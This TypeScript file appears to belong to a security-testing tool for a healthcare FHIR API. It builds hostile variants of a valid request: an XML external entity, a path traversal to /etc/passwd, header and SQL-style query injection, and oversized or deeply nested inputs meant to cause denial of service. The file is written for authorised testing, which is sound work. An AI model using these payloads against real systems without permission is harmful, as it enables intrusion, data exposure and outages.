import type { Forwarded } from './outbound.ts';

/**
 * Hostile requests, each one thing to a valid one: what a tester of the OWASP top 10 and of denial of service begins
 * with. Small enough to be sent to a system that others use too, if its owner has said so.
 */

/** Bytes of padding: past the limits of usual servers (8 to 64 kB of fields, 1 to 5 MB of body). */
const LARGE_FIELD = 65_536;
const LARGE_TOKEN = 8_000;
const LARGE_BODY = 5_500_000;
const DEPTH = 50_000;

export type AttackName =
  | 'external-entity'
  | 'traversal'
  | 'header-injection'
  | 'query-injection'
  | 'large-header'
  | 'large-token'
  | 'large-body'
  | 'deep-json'
  | 'trace';

/** The field that an injection would make the provider answer with. */
export const INJECTED = 'X-Assay-Injected';
const lastSegment = (target: string, tail: string): string => target.replace(/\/[^/?]*(?=$|\?)/, `/${tail}`);

/** XML whose one entity stands for what the canary serves (XML 1.0 §4.2.2). */
const entityOf = (canary: string): string =>
  `<?xml version="1.0"?><!DOCTYPE Parameters [<!ENTITY canary SYSTEM "${canary}">]>` +
  '<Parameters xmlns="http://hl7.org/fhir"><parameter><name value="patientNHSNumber"/>' +
  '<valueString value="x"/><extension>&canary;</extension></parameter></Parameters>';

/**
 * The request with the attack made.
 * @param canary URL that nobody else asks for
 */
export function attack(name: AttackName, request: Forwarded, canary = ''): Forwarded {
  const { headers, target, token, data, body } = request;
  switch (name) {
    case 'external-entity':
      return {
        ...request,
        headers: { ...headers, 'Content-Type': 'application/fhir+xml' },
        body: entityOf(canary),
      };
    case 'traversal':
      return { ...request, target: lastSegment(target, `${'..%2F'.repeat(8)}etc%2Fpasswd`) };
    case 'header-injection':
      return { ...request, target: lastSegment(target, `2%0D%0A${INJECTED}:%201`) };
    case 'query-injection':
      return { ...request, data: { ...data, patient: `${data?.['patient'] ?? ''}' OR '1'='1` } };
    case 'large-header':
      return { ...request, headers: { ...headers, 'X-Assay-Padding': 'a'.repeat(LARGE_FIELD) } };
    case 'large-token':
      return {
        ...request,
        ...(token && {
          token: { ...token, claims: { ...token.claims, iss: `https://${'a'.repeat(LARGE_TOKEN)}.test` } },
        }),
      };
    case 'large-body':
      return { ...request, body: `${body ?? ''}${' '.repeat(LARGE_BODY)}` };
    case 'deep-json':
      return { ...request, body: `${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}` };
    case 'trace':
      return { ...request, method: 'TRACE' };
  }
}
